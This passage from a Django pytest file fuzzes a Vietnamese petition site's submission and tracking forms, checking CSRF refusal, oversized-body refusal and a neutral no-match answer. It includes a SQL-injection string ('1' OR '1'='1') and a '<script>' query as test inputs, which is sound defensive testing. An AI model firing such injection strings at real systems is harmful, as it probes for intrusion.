        assert response.status_code in (200, 400, 404, 413, 429), (response.status_code, context)
        _check_refusal(response, context)
        assert after == before, f"written for a refused input: {context}"
        counts[f"refused {response.status_code}"] += 1
    report(capsys, "public form POST /gui-kien-nghi/", counts, clock)
    assert sum(counts.values()) == SUBMIT
    assert counts["accepted"] and counts["refused 200"]


def _last(value):
    return value[-1] if isinstance(value, list) else value


def _is_robot(data) -> bool:
    return bool(data) and bool(str(_last(data.get("website")) or "").strip())


def _key_known(key) -> bool:
    """Whether the form's key was already recorded before this POST (a resent form)."""
    try:
        key = uuid.UUID(str(_last(key)))
    except ValueError:
        return False
    return Petition.objects.filter(submission_key=key).exists()


@pytest.mark.django_db
def test_a_body_larger_than_the_form_takes_is_refused_in_vietnamese_before_it_is_read(place, open_doors):
    client = Client()
    url = f"{SUBMIT_URL}?hoi-nghi={place.conference.pk}"
    data = {**fresh_form(client, url), **_valid_fields(random.Random(SEED)), "content": "x" * (3 * 1024 * 1024)}
    response = client.post(url, data)
    assert response.status_code == 400
    assert_vietnamese(response.content.decode())
    huge = SimpleUploadedFile("lon.pdf", b"%PDF-1.4\n" + bytes(views_citizen.MAX_REQUEST_BYTES))
    response = client.post(url, {**data, "content": CONTENT, "files": [huge]})
    assert response.status_code == 413
    _check_refusal(response, "too large")
    assert not Petition.objects.exists()


@pytest.mark.django_db
def test_a_form_sent_without_its_security_cookie_is_refused_in_vietnamese(place):
    """A page left open for days, or cookies blocked: the browser sends no CSRF cookie."""
    browser = Client(enforce_csrf_checks=True)
    url = f"{SUBMIT_URL}?hoi-nghi={place.conference.pk}"
    response = browser.post(url, {**_valid_fields(random.Random(SEED)), "submission_key": str(uuid.uuid4())})
    assert response.status_code == 403
    assert_vietnamese(response.content.decode())
    assert "Phiếu đã hết hiệu lực" in response.content.decode()
    response = browser.post(TRACK_URL, {"code": "DT-7K3M9-QXPR2", "phone": "0912345678"})
    assert response.status_code == 403 and "Phiếu đã hết hiệu lực" in response.content.decode()
    assert not Petition.objects.exists()


# ---------------------------------------------------------------- tracking


@pytest.mark.django_db
def test_hundreds_of_malformed_tracking_requests_get_the_one_neutral_vietnamese_answer(place, open_doors, capsys):
    rng = random.Random(SEED + 3)
    client = Client()
    # Two real petitions to aim at: the right pair opens the page, anything else does not.
    url = f"{SUBMIT_URL}?hoi-nghi={place.conference.pk}"
    real = []
    for n in range(2):
        fields = {**fresh_form(client, url), **_valid_fields(random.Random(n))}
        assert client.post(url, fields).status_code == 302
        real.append((Petition.objects.get(submission_key=fields["submission_key"]), fields["phone"]))
    no_match = vi(views_citizen.MSG_NO_MATCH)
    counts: Counter = Counter()
    state = list(Petition.objects.order_by("pk").values_list("pk", "status", "version", "updated_at"))
    clock = Clock()
    for number in range(TRACK):
        client = Client()
        petition, phone = rng.choice(real)
        code = petition.tracking_code
        roll = rng.random()
        right = False
        if roll < 0.05:  # the right pair, written loosely
            codes = [code, code.lower(), f"{code[:2]}-{code[2:7]}-{code[7:]}", f" {code} "]
            phones = [phone, f"+84 {phone[1:]}", f"{phone[:4]} {phone[4:7]} {phone[7:]}"]
            data = {"code": rng.choice(codes), "phone": rng.choice(phones)}
            right = True
        elif roll < 0.25:  # the right code, a wrong number
            data = {"code": code, "phone": rng.choice([*PHONES, nasty_text(rng)])}
        elif roll < 0.35:  # the right number, a wrong code
            data = {"code": code[:-1] + rng.choice("0123456789ABCDEFGHJKMNPQRSTVWXYZ".replace(code[-1], "")),
                    "phone": phone}  # fmt: skip
        elif roll < 0.8:
            data = {"code": nasty_text(rng), "phone": nasty_text(rng)}
            for field in ("code", "phone"):
                if rng.random() < 0.1:
                    data.pop(field)
                elif rng.random() < 0.1:
                    data[field] = [nasty_text(rng), nasty_text(rng)]
            if rng.random() < 0.1:
                data["id"] = "1' OR '1'='1"
        else:
            body, content_type = _raw_posts(rng, TRACK_URL)
            response = client.generic("POST", TRACK_URL, body.replace(b"name=", b"code="), content_type=content_type)
            assert response.status_code != 500, number
            if response.status_code == 400:
                assert_vietnamese(response.content.decode("utf-8", "replace"))
                counts["refused 400"] += 1
            else:
                assert response.status_code == 200 and no_match in response.content.decode(), number
                counts["no match"] += 1
            assert views_citizen.TRACKED not in client.session
            continue
        response = client.post(TRACK_URL, data)
        context = f"input {number} (seed {SEED}): {data!r:.300}"
        assert response.status_code != 500, context
        matches = (
            isinstance(data.get("code"), str)
            and normalise_tracking_code(data["code"]) == code
            and isinstance(data.get("phone"), str)
            and _same_phone(data["phone"], phone)
        )
        if right or matches:
            assert response.status_code == 302, context
            assert client.session[views_citizen.TRACKED]["id"] == petition.pk
            counts["opened (right pair)"] += 1
            continue
        assert response.status_code == 200, context
        body = response.content.decode()
        assert no_match in body, context
        # The same page whatever was wrong: nothing typed comes back.
        for field in ("code", "phone"):
            value = data.get(field)
            if isinstance(value, str) and len(value.strip()) > 3 and value.strip() not in no_match:
                assert f'value="{value.strip()}"' not in body, context
        assert views_citizen.TRACKED not in client.session
        counts["no match"] += 1
    assert list(Petition.objects.order_by("pk").values_list("pk", "status", "version", "updated_at")) == state
    report(capsys, "tracking form POST /tra-cuu/", counts, clock)
    assert sum(counts.values()) == TRACK
    assert counts["opened (right pair)"] and counts["no match"]


def _same_phone(typed: str, phone: str) -> bool:
    from dialogue.lib.phones import InvalidPhone, normalize_phone

    try:
        return normalize_phone(typed) == normalize_phone(phone)
    except InvalidPhone:
        return False


@pytest.mark.django_db
def test_the_tracking_page_read_with_junk_in_its_address_is_the_plain_form(place, open_doors):
    client = Client()
    for query in ("?code=DT7K3M9QXPR2&phone=0912345678", "?%FF%FE=1", "?code=" + "A" * 5000, "?x=<script>"):
        response = client.get(TRACK_URL + query)
        assert response.status_code == 200
        assert "<script>" not in response.content.decode().split("<main", 1)[-1]
        assert views_citizen.TRACKED not in client.session
